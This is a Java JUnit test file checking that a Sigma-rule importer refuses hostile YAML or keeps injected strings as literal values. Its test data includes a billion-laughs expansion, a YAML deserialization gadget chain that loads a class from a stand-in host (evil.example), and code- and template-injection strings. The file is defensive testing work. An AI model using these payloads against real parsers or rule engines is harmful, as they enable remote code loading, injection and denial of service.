package tmsp.correlation.authoring.sigma;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;
import static org.junit.jupiter.api.Assertions.assertTimeoutPreemptively;
import static tmsp.correlation.authoring.sigma.SigmaTestSupport.at;
import static tmsp.correlation.authoring.sigma.SigmaTestSupport.compile;
import static tmsp.correlation.authoring.sigma.SigmaTestSupport.convert;
import static tmsp.correlation.authoring.sigma.SigmaTestSupport.findings;

import java.time.Duration;
import java.util.ArrayList;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;
import tmsp.correlation.CompiledRules;
import tmsp.correlation.DetectionFact;

/** Hostile files: refused quickly with a reason, or turned into DRL that means exactly the values given. */
class SigmaHostileInputTest {

    static void refused(String yaml, String reason) {
        assertTimeoutPreemptively(Duration.ofSeconds(10), () -> assertThatThrownBy(() -> convert(yaml))
                .isInstanceOfSatisfying(SigmaRefused.class,
                        e -> assertThat(e.reasons()).anySatisfy(r -> assertThat(r).contains(reason))));
    }

    @Test
    void aBillionLaughsIsNotExpanded() {
        StringBuilder yaml = new StringBuilder("a0: &a0 [lol, lol, lol, lol, lol, lol, lol, lol, lol, lol]\n");
        for (int i = 1; i < 10; i++) {
            yaml.append("a").append(i).append(": &a").append(i).append(" [");
            for (int j = 0; j < 10; j++) {
                yaml.append(j == 0 ? "" : ", ").append("*a").append(i - 1);
            }
            yaml.append("]\n");
        }
        refused(yaml.toString(), "the YAML cannot be read");
    }

    @Test
    void aFileOverTheLimitIsNotParsed() {
        refused("title: big\ndescription: " + "x".repeat(SigmaYaml.MAX_BYTES) + "\n", "larger than 256 KB");
    }

    @Test
    void deepNestingIsRefused() {
        refused("title: deep\nx: " + "[".repeat(5_000) + "]".repeat(5_000) + "\n", "the YAML cannot be read");
    }

    @Test
    void aJavaTypeTagIsRefused() {
        refused("title: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL "
                + "[\"http://evil.example/\"]]]]\n", "the YAML cannot be read");
    }

    @Test
    void duplicateKeysAreRefused() {
        refused("title: a\ntitle: b\n", "the YAML cannot be read");
    }

    @Test
    void tooManyDocumentsAreRefused() {
        refused("title: x\n---\n".repeat(SigmaYaml.MAX_DOCUMENTS + 1), "more than 50 YAML documents");
    }

    @ParameterizedTest
    @ValueSource(strings = {"", "   \n", "---\n", "- a list\n- not a rule\n", "title: [unclosed\n", "\"just text\"",
            "title: x\n\u0000"})
    void malformedOrTruncatedFilesAreRefused(String yaml) {
        assertThatThrownBy(() -> convert(yaml)).isInstanceOf(SigmaRefused.class);
    }

    @Test
    void aDeeplyNestedConditionIsRefused() {
        String condition = "(".repeat(40) + "selection" + ")".repeat(40);
        refused(SigmaRefusalsTest.base("eventName: x", "'" + condition + "'"), "nested deeper than 30");
    }

    static final List<String> VALUES = List.of("\"); System.exit(0); (\"", "quote\"inside", "back\\slash\\",
            "C:\\users\\public", "${window}", "two\nlines", "end", "$ {atLeast} } {", "\\u0053ystem");

    /** Each value as the eventName of a rule: the rule compiles (confinement first) and matches exactly it. */
    @Test
    void injectedValuesStayValuesInEveryMatcher() {
        for (String matcher : List.of("", "|contains", "|startswith", "|endswith")) {
            StringBuilder list = new StringBuilder();
            VALUES.forEach(v -> list.append("\n        - ").append(yamlQuoted(v)));
            String yaml = SigmaRefusalsTest.base("eventName" + matcher + ":" + list, "selection")
                    .replace("gte: 5", "gte: " + VALUES.size());
            CompiledRules rules = compile(yaml);
            List<DetectionFact> facts = new ArrayList<>();
            for (int i = 0; i < VALUES.size(); i++) {
                facts.add(at(i, 1, i).eventName(VALUES.get(i)).user("u").build());
            }
            assertThat(findings(rules, "sigma-counted", facts)).as(matcher).singleElement()
                    .satisfies(f -> assertThat(f.detectionIds()).hasSize(VALUES.size()));
            facts.set(0, at(0, 1, 0).eventName("\"); System.exit(1); (\"").user("u").build());
            assertThat(findings(rules, "sigma-counted", facts)).as(matcher + ", one value differs").isEmpty();
        }
    }

    @Test
    void hostileMetadataCannotBreakTheRuleText() {
        String yaml = SigmaRefusalsTest.base("eventName: x", "selection")
                .replace("title: Counted", "title: \"Counted\\\")\\nend\\nrule \\\"evil ${window}\\\\u0041\"")
                + "description: \"x\\\")\\n@severity(\\\"low\\\")\"\n";
        SigmaImport.Result result = convert(yaml);
        CompiledRules rules = compile(yaml);
        assertThat(rules.rules()).hasSize(2);
        assertThat(result.drl()).doesNotContain("\\u").doesNotContain("${window}\\");
    }

    static String yamlQuoted(String value) {
        return "\"" + value.replace("\\", "\\\\").replace("\"", "\\\"").replace("\n", "\\n") + "\"";
    }
}
